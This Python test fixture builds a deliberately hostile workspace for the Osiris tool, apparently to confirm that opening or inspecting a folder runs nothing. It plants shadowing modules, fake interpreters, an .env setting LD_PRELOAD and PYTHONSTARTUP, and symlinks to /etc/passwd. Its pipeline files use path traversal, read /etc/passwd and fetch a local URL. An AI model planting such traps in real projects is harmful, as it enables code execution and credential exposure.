"""A workspace that wants to be run: traps that write a line into a file outside as soon as one of them is executed.

Nothing in it is ever to run because somebody opened the folder, checked a file in it or asked for completion.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

# Modules that Osiris imports, and those that Python imports by itself: each stands in the folder as a trap.
MODULES = (
    "yaml", "json", "click", "rich", "pygls", "lsprotocol", "attrs", "cattrs", "jsonschema", "jsonschema_rs",
    "pydantic", "duckdb", "pyarrow", "sqlglot", "sqlite3", "asyncio", "logging", "sitecustomize", "usercustomize",
)  # fmt: skip
PROGRAMS = ("python", "python3", "osiris", "pip", "git", "node")
SECRET = "canary-Zx81-of-the-environment"  # the value of a variable that is nobody's business here


@dataclass(frozen=True)
class Traps:
    """``folder`` holds the traps; ``record`` is the file that the first one to be executed makes."""

    folder: Path
    record: Path

    def sprung(self) -> str:
        """Which traps were executed: their names, one a line; empty when none was."""
        return self.record.read_text() if self.record.exists() else ""


def set_traps(folder: Path, record: Path) -> Traps:
    """Put modules and environments into ``folder`` that give themselves away when they are executed."""
    for name in MODULES:
        (folder / f"{name}.py").write_text(f"open({str(record)!r}, 'a').write('{name}.py\\n')\n")
    for environment in (".venv", "venv"):
        programs = folder / environment / "bin"
        programs.mkdir(parents=True, exist_ok=True)
        (folder / environment / "pyvenv.cfg").write_text("home = /usr/bin\n")
        for name in PROGRAMS:
            _program(programs / name, record)
    return Traps(folder, record)


def make_hostile_workspace(folder: Path, record: Path) -> Traps:
    """A whole hostile project: the traps, settings that point elsewhere, and pipelines that reach out."""
    traps = set_traps(folder, record)
    _program(folder / "server.sh", record)
    for name, text in _FILES.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    os.symlink("/etc", folder / "etc")
    os.symlink("/etc/passwd", folder / "users.csv")
    return traps


def _program(path: Path, record: Path) -> None:
    path.write_text(f"#!/bin/sh\necho {path.name} >> '{record}'\n")
    path.chmod(0o755)


_FILES = {
    "osiris.yaml": """\
runs: {logs_dir: /tmp, memory_limit: 1MB}
ai: {enabled: true, base_url: "http://127.0.0.1:9/v1", api_key: x}
e2b: {api_url: "http://127.0.0.1:9"}
components: [./evil.py]
plugins: [evil]
""",
    "osiris_connections.yaml": """\
connections:
  sqlite:
    home: {path: "${OSIRIS_TEST_FOREIGN}/${HOME}.db"}
    passwd: {path: /etc/passwd}
  mysql:
    out: {host: 127.0.0.1, port: 9, user: "${USER}", password: "${OSIRIS_TEST_FOREIGN}", database: x, default: true}
""",
    ".env": """\
PATH=.
PYTHONPATH=.
PYTHONSTARTUP=evil.py
LD_PRELOAD=./evil.so
HTTPS_PROXY=http://127.0.0.1:9
OSIRIS_LOGS_DIR=/tmp
""",
    ".vscode/settings.json": """\
{
  "osiris.server.path": "${workspaceFolder}/server.sh",
  "osiris.server.interpreter": "${workspaceFolder}/.venv/bin/python",
  "python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python"
}
""",
    "evil.py": "raise SystemExit('executed')\n",
    "components/evil.yaml": "name: evil.extractor\nversion: 1.0.0\nmodes: [read]\ndriver: evil:Evil\n",
    "pyproject.toml": '[project]\nname = "evil"\n[project.entry-points."osiris.components"]\nevil = "evil:specs"\n',
    "evil-1.dist-info/entry_points.txt": "[osiris.components]\nevil = evil:specs\n",
    "evil-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n",
    "reaches-out.oml": """\
oml_version: "0.1.0"
name: ../../../escape
params:
  where: {type: string, default: "${OSIRIS_TEST_FOREIGN}"}
steps:
  - id: passwd
    component: filesystem.csv_extractor
    mode: read
    config: {path: etc/passwd}
  - id: link
    component: filesystem.csv_extractor
    mode: read
    config: {path: users.csv}
  - id: up
    component: filesystem.csv_extractor
    mode: read
    config: {path: ../../../../../../etc/passwd}
  - id: query
    component: duckdb.processor
    mode: transform
    needs: [passwd]
    config:
      query: |
        SELECT * FROM read_text('/etc/passwd'), read_csv('http://127.0.0.1:9/x'), getenv('OSIRIS_TEST_FOREIGN')
  - id: evil
    component: evil.extractor
    mode: read
    config: {command: "sh server.sh", token: "${params.where}"}
  - id: crm
    component: mysql.extractor
    mode: read
    config: {connection: "@mysql.out", table: users}
  - id: ../../out
    component: filesystem.csv_writer
    mode: write
    needs: [query]
    config: {path: /tmp/escape.csv}
""",
    "small.oml": """\
oml_version: "0.1.0"
name: small
params: {unused: 1}
steps:
  - id: crm
    component: mysql.extractor
    mode: read
    config: {connection: "@mysql.out", table: users}
  - id: save
    component: filesystem.csv_writer
    mode: write
    config: {path: out.csv}
""",
}
